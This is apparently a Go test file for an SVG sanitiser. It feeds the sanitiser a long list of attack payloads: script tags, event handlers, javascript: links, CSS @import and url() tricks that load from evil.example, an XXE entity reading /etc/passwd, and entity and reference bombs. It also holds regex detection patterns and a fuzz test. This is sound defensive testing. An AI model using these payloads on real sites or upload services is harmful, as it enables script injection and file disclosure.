package media

import (
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"regexp"
	"strings"
	"testing"
)

const svgOpen = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">`

// Known attacks. What comes out of each is harmless.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<script xlink:href="https://evil.example/a.js"/>`,
	`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
	`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`,
	`<g onload="alert(1)"/>`, `<g OnLoad="alert(1)"/>`, `<g xmlns:x="http://www.w3.org/2000/svg" x:onload="alert(1)"/>`,
	`<rect onclick="alert(1)" onbegin="alert(1)" onfocusin="alert(1)"/>`,
	`<a xlink:href="javascript:alert(1)"><text>x</text></a>`, `<a href="  java&#10;script:alert(1)"><text>x</text></a>`,
	`<a href="https://evil.example">x</a>`,
	`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject>`,
	`<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/>`, `<use xlink:href="https://evil.example/a.svg#x"/>`,
	`<use xlink:href="//evil.example#x"/>`, `<use href="#a&quot; onload=&quot;alert(1)"/>`,
	`<image href="https://evil.example/pixel.png"/>`, `<image xlink:href="data:image/png;base64,AA"/>`,
	`<feImage href="https://evil.example/a.png"/>`,
	`<animate attributeName="href" values="javascript:alert(1)"/>`, `<set attributeName="onclick" to="alert(1)"/>`,
	`<animate xlink:href="#a" attributeName="xlink:href" from="a" to="javascript:alert(1)"/>`,
	`<style>@import url(https://evil.example/a.css);</style>`, `<style>@import "https://evil.example/a.css";</style>`,
	`<style>rect{background:url("https://evil.example/a.png")}</style>`, `<style>rect{fill:u\72l(https://evil.example)}</style>`,
	`<style>rect{width:expression(alert(1))}</style>`, `<style>rect{-moz-binding:url(https://evil.example#x)}</style>`,
	`<style>rect{behavior:url(#default#time2)}</style>`, `<style>rect{background:image-set("https://evil.example/a.png" 1x)}</style>`,
	`<style><![CDATA[</style><script>alert(1)</script>]]></style>`, `<style>a{b:"}@import url(https://evil.example);{"}</style>`,
	`<style>/*</style><script>alert(1)</script>*/`, `<style>@media all{rect{fill:url(https://evil.example)}}</style>`,
	`<style>/**/@im/**/port "https://evil.example";rect{fill:ur/**/l(https://evil.example)}</style>`,
	`<rect style="fill:url(https://evil.example/a.svg#x)"/>`, `<rect style="background:URL(javascript:alert(1))"/>`,
	`<rect fill="url(https://evil.example#x)"/>`, `<rect fill="url('data:image/svg+xml,x')"/>`, `<rect filter="url(#a) url(//evil.example)"/>`,
	`<rect fill="ururl(#a)l(https://evil.example)"/>`, `<rect mask="URL ( https://evil.example )"/>`,
	`<iframe src="https://evil.example"/>`, `<embed src="https://evil.example"/>`, `<object data="https://evil.example"/>`,
	`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`, `<listener event="load" handler="#x"/>`,
	`<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>`, `<title><script>alert(1)</script></title>`,
	`<desc><![CDATA[<script>alert(1)</script>]]></desc>`, `<?xml-stylesheet href="https://evil.example/a.css"?>`,
	`<!-- <script>alert(1)</script> -->`, `<metadata><rdf xmlns="x">secret</rdf></metadata>`, `<discard/><mpath href="https://evil.example"/>`,
	`<path d="M0 0" href="https://evil.example" src="x" xml:base="https://evil.example/"/>`, `<tref xlink:href="https://evil.example#x"/>`,
	`<font-face-uri xlink:href="https://evil.example"/>`, `<cursor xlink:href="https://evil.example"/>`, `<color-profile xlink:href="https://evil.example"/>`,
}

func TestSVGAttacks(t *testing.T) {
	for _, attack := range attacks {
		clean, _, _, err := cleanSVG([]byte(svgOpen + attack + `<path d="M1 1h8"/></svg>`))
		if err != nil {
			if !strings.Contains(attack, "</style><script>") { // which is not XML
				t.Errorf("%s: %v", attack, err)
			}
			continue
		}
		if why := forbidden(clean); why != "" {
			t.Errorf("%s became %s: %s", attack, clean, why)
		}
		if !bytes.Contains(clean, []byte(`<path d="M1 1h8"/>`)) {
			t.Errorf("%s took the path with it: %s", attack, clean)
		}
		if bytes.Contains(clean, []byte("evil.example")) || bytes.Contains(clean, []byte("secret")) {
			t.Errorf("%s: %s", attack, clean)
		}
	}
}

// forbidden looks for what must not be in an SVG, by other means than cleanSVG; it returns an empty text if there is nothing.
func forbidden(svg []byte) string {
	d := xml.NewDecoder(bytes.NewReader(svg))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return ""
		}
		if err != nil {
			return err.Error()
		}
		switch e := token.(type) {
		case xml.Directive, xml.ProcInst, xml.Comment:
			return "a directive, instruction or comment"
		case xml.StartElement:
			if forbiddenElement.MatchString(e.Name.Local) || e.Name.Space != svgSpace {
				return "element " + e.Name.Local
			}
			for _, a := range e.Attr {
				v := strings.ToLower(strings.Join(strings.Fields(a.Value), ""))
				switch name := strings.ToLower(a.Name.Local); {
				case name == "xmlns", name == "aria-label":
				case strings.HasPrefix(name, "on"), name == "src", name == "base":
					return "attribute " + name
				case name == "href" && !strings.HasPrefix(v, "#"):
					return "href " + v
				case forbiddenValue.MatchString(v):
					return name + " " + v
				}
			}
			if e.Name.Local == "style" {
				css, err := d.Token()
				if text, ok := css.(xml.CharData); ok && err == nil && (bytes.ContainsAny(text, `@\<`) || forbiddenValue.Match(bytes.ToLower(text))) {
					return "style " + string(text)
				}
			}
		}
	}
}

var (
	forbiddenElement = regexp.MustCompile(`(?i)script|foreign|image|^a$|animate|^set$|iframe|embed|object|handler|listener|metadata|mpath|discard|cursor`)
	forbiddenValue   = regexp.MustCompile(`javascript:|data:|expression\(|url\(["']?[^#"']|image-set\(|@import|\\`)
)

func TestSVGRefused(t *testing.T) {
	l := library(t)
	for name, c := range map[string]struct{ data, says string }{
		"bomb.svg":     {`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`, "entities"},
		"file.svg":     {`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`, "entities"},
		"unknown.svg":  {svgOpen + `<text>&nbsp;</text></svg>`, "damaged"},
		"half.svg":     {svgOpen + `<g><path d="M0 0"/>`, "damaged"},
		"deep.svg":     {svgOpen + strings.Repeat("<g>", 200) + strings.Repeat("</g>", 200) + `</svg>`, "too deeply nested"},
		"many.svg":     {svgOpen + strings.Repeat("<g/>", maxElements+1) + `</svg>`, "too many elements"},
		"unread.svg":   {`<?xml version="1.0" encoding="utf-7"?>` + svgOpen + `</svg>`, "not accepted here"},
		"other.svg":    {`<svg xmlns="http://www.w3.org/1999/xhtml"/>`, "damaged"},
		"lol.svg":      {laughs(), "too many elements"},
		"patterns.svg": {strings.ReplaceAll(strings.ReplaceAll(laughs(), "<use href=\"", `<rect fill="url(`), `"/>`, `)"/>`), "too many elements"},
	} {
		refused(t, l, name, []byte(c.data), c.says)
	}
}

// laughs is an SVG in which each of ten groups shows the one before ten times.
func laughs() string {
	b := svgOpen + `<g id="g0"><path d="M0 0h1"/></g>`
	for i := 1; i <= 10; i++ {
		b += `<g id="g` + string(rune('0'+i)) + `">` + strings.Repeat(`<use href="#g`+string(rune('0'+i-1))+`"/>`, 10) + `</g>`
	}
	return b + `</svg>`
}

// SVGs of drawing programs keep their looks.
func TestSVGKept(t *testing.T) {
	for name, c := range map[string]struct {
		data, want    string
		width, height int
	}{
		"illustrator": {
			`<?xml version="1.0" encoding="utf-8"?><!-- Generator --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
			<svg version="1.1" xmlns="http://www.w3.org/2000/svg" x="0px" viewBox="0 0 30.5 10" xml:space="preserve"><style type="text/css">
			.st0{fill:#E30613;} .st1{fill:url(#a);font-family:'Open Sans';transform:rotate(4deg)} @media print{.st0{fill:#000}}</style>
			<linearGradient id="a" gradientUnits="userSpaceOnUse"><stop offset="0" style="stop-color:#FFF"/></linearGradient><path class="st0" d="M1,1"/></svg>`,
			`<svg xmlns="http://www.w3.org/2000/svg" version="1.1" x="0px" viewBox="0 0 30.5 10" xml:space="preserve"><style type="text/css">.st0{fill:#E30613;}.st1{fill:url(#a);font-family:&#39;Open Sans&#39;;transform:rotate(4deg)}</style><linearGradient id="a" gradientUnits="userSpaceOnUse"><stop offset="0" style="stop-color:#FFF"/></linearGradient><path class="st0" d="M1,1"/></svg>`, 31, 10,
		},
		"prefixes": {
			`<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/" width="100mm" height="50mm" inkscape:version="1"><s:defs><s:circle id="c" r="3"/></s:defs><s:use l:href="#c" transform="scale(2)"/><inkscape:path-effect/></s:svg>`,
			`<svg xmlns="http://www.w3.org/2000/svg" width="100mm" height="50mm"><defs><circle id="c" r="3"/></defs><use href="#c" transform="scale(2)"/></svg>`, 378, 189,
		},
		"text":         {`<svg width="20" viewBox="0 0 10 20"><title>Größe &amp; "Form"</title><text>a <tspan>b</tspan> c</text></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" width="20" viewBox="0 0 10 20"><title>Größe &amp; &#34;Form&#34;</title><text>a <tspan>b</tspan> c</text></svg>`, 20, 40},
		"latin":        {"<?xml version='1.0' encoding='ISO-8859-1'?><svg aria-label='Gr\xf6\xdfe (gro\xdf)'><path/></svg>", `<svg xmlns="http://www.w3.org/2000/svg" aria-label="Größe (groß)"><path/></svg>`, 300, 150},
		"no size":      {`<svg width="100%" height="100%"><path/></svg>junk<`, `<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><path/></svg>`, 300, 150},
		"link":         {`<svg><a href="https://a.example" id="x"><path d="M0 0"/></a></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><g id="x"><path d="M0 0"/></g></svg>`, 300, 150},
		"absurd sizes": {`<svg width="1e300" height="-5" viewBox="0 0 NaN 1"><path/></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" width="1e300" height="-5" viewBox="0 0 NaN 1"><path/></svg>`, 20000, 1},
	} {
		clean, w, h, err := cleanSVG([]byte(c.data))
		if err != nil || string(clean) != c.want || w != c.width || h != c.height {
			t.Errorf("%s: %d × %d, %v\n%s\nwant\n%s", name, w, h, err, clean, c.want)
		}
	}
}

// Whatever goes in, nothing forbidden comes out, and cleaning the result again does not change it.
func FuzzSVG(f *testing.F) {
	for _, attack := range attacks {
		f.Add([]byte(svgOpen + attack + "</svg>"))
	}
	f.Add([]byte(laughs()))
	f.Fuzz(func(t *testing.T, data []byte) {
		clean, w, h, err := cleanSVG(data)
		if err != nil {
			return
		}
		if why := forbidden(clean); why != "" {
			t.Fatalf("%q became %q: %s", data, clean, why)
		}
		again, w2, h2, err := cleanSVG(clean)
		if err != nil || !bytes.Equal(again, clean) || w2 != w || h2 != h {
			t.Fatalf("%q became %q, and that %q, %v", data, clean, again, err)
		}
	})
}
